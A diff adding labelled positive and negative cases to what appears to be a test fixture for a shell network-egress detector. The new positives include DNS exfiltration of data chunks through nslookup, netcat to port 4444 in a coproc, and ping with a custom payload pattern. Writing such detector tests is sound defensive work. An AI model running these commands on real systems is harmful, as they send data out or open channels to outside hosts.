@@ -34,3 +34,17 @@ echo "curl https://example.com"
 #@ neg a function named fetch_data
 fetch_data() { cat data.txt; }
 fetch_data
+#@ pos a DNS lookup sends a name out
+nslookup "$chunk.t.example.net"
+#@ pos dig
+dig +short example.com
+#@ neg dig's version
+dig -v
+#@ pos nc run by a named coproc
+coproc N { nc 203.0.113.5 4444; }
+#@ pos mail to an address
+mail -s report ops@example.com < report.txt
+#@ pos ping with a chosen pattern
+ping -c1 -p 41414141 203.0.113.5
+#@ neg ping of a host
+ping -c1 example.com
